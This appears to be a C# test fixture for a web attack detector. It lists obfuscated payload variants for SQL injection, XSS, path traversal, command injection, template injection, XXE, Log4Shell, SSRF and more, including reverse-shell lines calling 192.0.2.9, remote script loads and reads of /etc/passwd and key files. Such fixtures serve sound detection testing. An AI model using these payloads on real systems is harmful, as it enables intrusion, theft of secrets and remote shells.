namespace Palisade.Engine.Tests.Detect.Web;

/// <summary>Payloads that say the same in other words of their language.</summary>
internal static partial class Payloads
{
    public static readonly (string Class, string[] Texts)[] Rewritten =
    [
        ("sqli",
        [
            "-7'/**/union/**/select/**/login,secret/**/from/**/staff#", "-7'/*x*/union/*y*/all/*z*/select/*w*/1,2-- ", "7'/*!50000union*//*!50000select*/1,2#", "7'/*!union*/ /*!00000select*/ 1,2-- ",
            "-7'un/**/ion sel/**/ect 1,2-- ", "-7'\nunion\nselect\n1,2-- ", "-7'\tunion\tselect\t1,2-- ", "-7'\vunion\vselect\v1,2-- ", "-7'\funion\fselect\f1,2-- ", "-7'\u00a0union\u00a0select\u00a01,2-- ",
            "7' un\0ion sel\0ect 1,2-- ", "7'/*x*/and/*y*/sleep/*z*/(4)#", "-7'union(select(1),(2))-- ", "-7'union distinct select 1,2-- ", "-7'union all select 1,2-- -", "-7'union--x\nselect--y\n1,2#", "-7' uNiOn SeLeCt 1,2-- ",
            "7e0union select 1,2", "7.0union select 1,2", "7'||'1'='1", "7' && '1'='1", "7'or'k'like'k", "7' or 3>2-- ", "7' or not 3=4-- ", "7' xor 3=4-- ", "7') or ('k'='k", "7\" or \"k\"=\"k", "7' or true-- ",
            "7' or 0x6b=0x6b-- ", "7' or char(107)=char(107)-- ", "7' or 'kl'='k'||'l", "7' or 'kl'='k'+'l'-- ", "7' or concat('k','l')='kl'-- ", "7' or ascii(substr(version(),1,1))>51-- ",
            "7' and (select*from(select(sleep(4)))a)-- ", "7' and if(1=1,sleep(4),0)-- ", "7' and case when 1=1 then sleep(4) else 0 end-- ", "7';waitfor delay '0:0:4'-- ", "7'; select pg_sleep(4)-- ",
            "7' and benchmark(5000000,md5(1))-- ", "7' procedure analyse()-- ", "7' into outfile '/tmp/k'-- ", "7' and updatexml(1,concat(0x7e,user()),1)-- ", "7' group by 1 having 1=1-- ", "7' order by 12-- ",
            "7';exec master..xp_cmdshell 'dir'-- ", "7';declare @q varchar(99);set @q=0x73656c656374;exec(@q)-- ",
        ]),
        ("xss",
        [
            "<scr\0ipt>confirm(17)</scr\0ipt>", "<ScRiPt >confirm(17)</sCrIpT >", "<script\n>confirm(17)</script\n>", "<script/x>confirm(17)</script>", "<scr<script>ipt>confirm(17)</scr</script>ipt>", "<svg/onload=confirm(17)>", "<svg\nonload\n=\nconfirm(17)>",
            "<svg/onload=&#99;onfirm(17)>", "<img/src/onerror=confirm(17)>", "<img src=q onerror\n=confirm(17)>", "<img src=`q` onerror=`confirm(17)`>", "<body onpageshow=confirm(17)>", "<details open ontoggle=confirm(17)>",
            "<input autofocus onfocus=confirm(17)>", "<video><source onerror=confirm(17)>", "<marquee onstart=confirm(17)>", "<iframe src=javascript:confirm(17)>", "<iframe srcdoc='<svg onload=confirm(17)>'>", "<a href=javascript:confirm(17)>k</a>",
            "<a href=\"java\tscript:confirm(17)\">k</a>", "<a href=\"jav&#x0A;ascript:confirm(17)\">k</a>", "<a href=\"&#106;avascript:confirm(17)\">k</a>", "<math><mi xlink:href=javascript:confirm(17)>k</mi></math>", "<object data=javascript:confirm(17)>",
            "<form action=javascript:confirm(17)><button>k</button></form>", "<script>confirm`17`</script>", "<script>eval(atob('Y29uZmlybSgxNyk='))</script>", "<script>window['con'+'firm'](17)</script>", "<script src=//192.0.2.9/k.js></script>",
            "'-confirm(17)-'", "\";confirm(17)//", "</script><script>confirm(17)</script>", "javascript:confirm(17)//", "<x onmouseover=confirm(17)>k", "<svg><animate onbegin=confirm(17) attributeName=x>", "<embed src=javascript:confirm(17)>",
            "<base href=javascript:/k/>", "<link rel=stylesheet href=javascript:confirm(17)>", "<meta http-equiv=refresh content='0;url=javascript:confirm(17)'>", "<template><script>confirm(17)</script></template>", "<style>@import'//192.0.2.9/k.css';</style>",
        ]),
        ("path_traversal lfi",
        [
            "....//....//....//srv/keys", "..././..././..././srv/keys", "....\\/....\\/....\\/srv/keys", "..;/..;/..;/manager/html", "..\\..\\..\\srv\\keys", "../\\../\\../\\srv", ".%00./.%00./srv/keys", "../../../../etc/passwd\0.png", "..//..//..//srv/keys",
            "/var/www/images/../../../etc/passwd", "./../../../srv/keys", ".//..//..//..//srv", "file:///etc/passwd", "file:/etc/passwd", "/etc/./passwd", "/etc//passwd", "//etc/passwd", "/./etc/passwd", "\\etc\\passwd", "C:\\windows\\win.ini", "c:/windows/win.ini",
            "/proc/self/environ", "/proc/self/fd/7", "php://filter/convert.base64-encode/resource=index.php", "PhP://FiLtEr/read=string.rot13/resource=config.php", "expect://id", "zip://k.zip#k.php", "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
        ]),
        ("cmdi",
        [
            ";c'a't /srv/keys/a", ";c\"a\"t /srv/keys/a", ";c\\at /srv/keys/a", ";ca''t /srv/keys/a", ";cat$IFS/srv/keys/a", ";cat${IFS}/srv/keys/a", ";cat$IFS$9/srv/keys/a", ";{cat,/srv/keys/a}", ";cat</srv/keys/a", ";/???/c?t /srv/keys/a", ";/bin/c?t /srv/keys/a",
            ";/b*n/ca* /srv/keys/a", ";/usr/bin/[c]at /srv/keys/a", ";w$()hoami", ";who``ami", ";wh$@oami", ";wh\"\"oami", ";w\\ho\\am\\i", ";$(echo whoami)", ";`echo whoami`", ";echo d2hvYW1p|base64 -d|sh", ";a=who;b=ami;$a$b", ";$'\\x77hoami'", ";rev<<<imaohw|sh",
            "\nwhoami", "\r\nwhoami\r\n", "|whoami", "||whoami", "&whoami", "&&whoami", "127.0.0.1;whoami", "127.0.0.1|whoami", "127.0.0.1%0awhoami", "$(whoami)", "`whoami`", "$(cat /srv/keys/a)", "x;bash -i >& /dev/tcp/192.0.2.9/9 0>&1", "x|nc 192.0.2.9 9 -e /bin/sh",
            ";tail${IFS}-n1${IFS}/srv/keys/a", ";printf${IFS}k", "& w^h^o^a^m^i", "|powershell -enc dwBoAG8AYQBtAGkA", "&cmd /c dir", ";ping -c 3 192.0.2.9", ";sleep 5", "$(sleep 5)", ";python3 -c 'import os;os.system(\"id\")'", ";perl -e 'exec \"id\"'", ";id;", "|id", ";ls -la", ";c\0at /srv/keys/a", ";ca${z}t /srv/keys/a", "|tee /tmp/k",
        ]),
        ("rce cmdi ssti",
        [
            "<?php system('id');?>", "<?=`id`?>", "<?PHP eval($_POST[k]);?>", "('sys'.'tem')('id');", "$k='sys'.'tem';$k('id');", "assert($_POST['k'])", "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));", "array_map('sys'.'tem',['id'])", "call_user_func('system','id')", "${@system(id)}",
            "phpinfo();", "passthru/**/('id');", "__import__('os').popen('id').read()", "getattr(__import__('os'),'sys'+'tem')('id')", "exec(\"import os;os.system('id')\")", "require('child_process').execSync('id')", "global.process.mainModule.require('child_process').exec('id')",
            "process.binding('spawn_sync')", "Runtime.getRuntime().exec('id')", "new java.lang.ProcessBuilder('id').start()", "T(java.lang.Runtime).getRuntime().exec('id')", "%{(#k=@java.lang.Runtime@getRuntime().exec('id'))}", "(#_memberAccess['allowStaticMethodAccess']=true)", "IO.popen('id').read", "Kernel.exec('id')",
        ]),
        ("ssti rce",
        [
            "{{19*23}}", "{{ 19 * 23 }}", "{{19*'23'}}", "${19*23}", "${{19*23}}", "#{19*23}", "<%= 19*23 %>", "*{19*23}", "@(19*23)", "{{''.__class__.__mro__}}", "{{''['__cl'+'ass__']}}", "{{request|attr('application')}}", "{{()|attr('\\x5f\\x5fclass\\x5f\\x5f')}}",
            "{%import os%}{{os.popen('id').read()}}", "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}", "{{cycler.__init__.__globals__.os.popen('id').read()}}", "{{lipsum.__globals__['os'].popen('id').read()}}", "{{_self.env.registerUndefinedFilterCallback('exec')}}",
            "{system('id')}", "<#assign k='freemarker.template.utility.Execute'?new()>${k('id')}", "#set($k=7)#set($e='e')$e.getClass().forName('java.lang.Runtime')", "${T(java.lang.System).getenv()}", "{{#with \"s\" as |string|}}{{/with}}",
        ]),
        ("xxe",
        [
            "<!DOCTYPE r [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><r>&e;</r>", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://192.0.2.9/k.dtd\">%d;]>", "<!doctype r[<!entity e system \"php://filter/read=convert.base64-encode/resource=k\">]>",
            "<!DOCTYPE\nr\n[\n<!ENTITY\ne\nSYSTEM\n\"file:///srv/keys\">\n]>", "<!DOCTYPE r PUBLIC \"-//A//B\" \"http://192.0.2.9/k.dtd\">", "<!DOCTYPE r SYSTEM \"http://192.0.2.9/k.dtd\"><r/>", "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></r>",
            "<!ENTITY % a \"<!ENTITY &#37; b SYSTEM 'file:///srv/?%d;'>\">",
        ]),
        ("deserialization",
        [
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==", "rO0ABXNyADdjb20uc3VuLm9yZy5hcGFjaGUueGFsYW4uaW50ZXJuYWwueHNsdGMudHJheC4=", "O:4:\"Shop\":1:{s:4:\"path\";s:7:\"k/a.txt\";}", "O:+4:\"Shop\":1:{s:1:\"k\";i:1;}", "a:1:{i:0;O:4:\"Shop\":1:{s:1:\"k\";s:1:\"v\";}}",
            "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://192.0.2.9/k\"}",
        ]),
        ("log4shell",
        [
            "${jndi:ldap://192.0.2.9/k}", "${${lower:j}ndi:ldap://192.0.2.9/k}", "${${::-j}${::-n}${::-d}${::-i}:ldap://192.0.2.9/k}", "${jndi:${lower:l}${lower:d}ap://192.0.2.9/k}", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://192.0.2.9/k}", "${jNdI:rMi://192.0.2.9/k}", "${jndi:dns://192.0.2.9/k}",
            "${${upper:j}n${lower:d}i:l${lower:d}ap://192.0.2.9/k}",
        ]),
        ("cmdi lfi", [";cat$u /etc$u/passwd$u", ";more /etc/passwd"]),
        ("ssti rce cmdi xss", ["{php}echo `id`;{/php}", "{{constructor.constructor('return process')()}}"]),
        ("nosqli", ["{\"$ne\":null}", "{\"$gt\":\"\"}", "{\"$where\":\"sleep(99)\"}", "'; return true; var k='", "{\"login\":{\"$regex\":\"^a\"}}"]),
        ("ldapi", ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(objectClass=*", "admin)(|(password=*)"]),
        ("crlf", ["/home\r\nSet-Cookie: role=admin", "k\r\nLocation: //192.0.2.9/", "k\n\nHTTP/1.1 200 OK\nContent-Type: text/html\n\n<b>"]),
        ("ssrf", ["http://169.254.169.254/latest/meta-data/", "http://0xA9FEA9FE/latest/meta-data", "http://2852039166/latest/", "http://[::ffff:169.254.169.254]/", "gopher://127.0.0.1:6379/_INFO", "http://127.0.0.1:22/", "dict://127.0.0.1:11211/stats", "http://localhost/server-status"]),
    ];

    /// <summary>Whole targets.</summary>
    public static readonly (string Class, string[] Texts)[] Targets =
    [
        ("path_traversal lfi",
        [
            "/static/../../../../srv/keys", "/static/%2e%2e/%2e%2e/%2e%2e/srv/keys", "/static/..%2f..%2f..%2fsrv%2fkeys", "/static/%2e%2e%2f%2e%2e%2f%2e%2e%2fsrv", "/static/..%252f..%252f..%252fsrv", "/static/%252e%252e/%252e%252e/%252e%252e/srv", "/static/..%5c..%5c..%5csrv", "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/srv",
            "/static/..%c0%af..%c0%af..%c0%afsrv", "/static/..%u2215..%u2215..%u2215srv", "/static/..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fsrv", "/static/....//....//....//srv", "/static/..;/..;/..;/manager/html", "/static/.%2e/.%2e/.%2e/srv", "/static/..%00/..%00/..%00/srv", "/static//..//..//..//srv", "/static/..\\..\\..\\srv",
            "http://shop.example/static/../../../../srv/keys", "http://shop.example:8080/static/..%2f..%2f..%2fsrv", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/..%2f..%2f..%2fetc/passwd?x=1", "/get/..././..././..././srv",
        ]),
        ("sqli", ["/item/7'%20union%20select%201,2--%20", "/item/7'/**/union/**/select/**/1,2/x.html", "/item?7'%20union%20select%201,2--%20", "/item?id=1&id=7'%20union%20select%201,2--%20", "/item?id=7'%20union%20select%201,2--%20&id=1", "/item?id[]=7'%20or%20'k'='k", "/item?id=1;7'%20union%20select%201,2--%20", "/item?id=-7'%a0union%a0select%a01,2--%a0", "/item?a=1%26id=7'%20union%20select%201,2--%20", "/item;id=7'%20union%20select%201,2--%20?x=1"]),
        ("xss", ["/search/%3Cscript%3Econfirm(17)%3C/script%3E", "/search/%22%3E%3Csvg%20onload=confirm(17)%3E", "/?%3Cscript%3Econfirm(17)%3C/script%3E", "/?q=1&q=%3Cscript%3Econfirm(17)%3C/script%3E", "http://shop.example/?q=%3Cscript%3Econfirm(17)%3C/script%3E", "/index.php/%22onmouseover=confirm(17)%20x=%22"]),
        ("cmdi webshell", ["/ping/;whoami", "/ping?host=1&host=;whoami", "/cgi-bin/x.cgi?|whoami|", "/ping?cmd=;cat$%7BIFS%7D/etc/passwd"]),
        ("log4shell", ["/$%7Bjndi:ldap://192.0.2.9/k%7D", "/?$%7Bjndi:ldap://192.0.2.9/k%7D=1", "/a%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F192.0.2.9%2Fk%7D"]),
    ];

    /// <summary>What headers bring.</summary>
    public static readonly (string Class, string Text)[] Headers =
    [
        ("sqli", "7' union select login,secret from staff-- "), ("sqli", "7' and sleep(4)-- "), ("xss", "<script>confirm(17)</script>"), ("log4shell", "${${::-j}ndi:ldap://192.0.2.9/k}"), ("cmdi rce", "() { :;}; /bin/bash -c 'cat /etc/passwd'"),
    ];
}
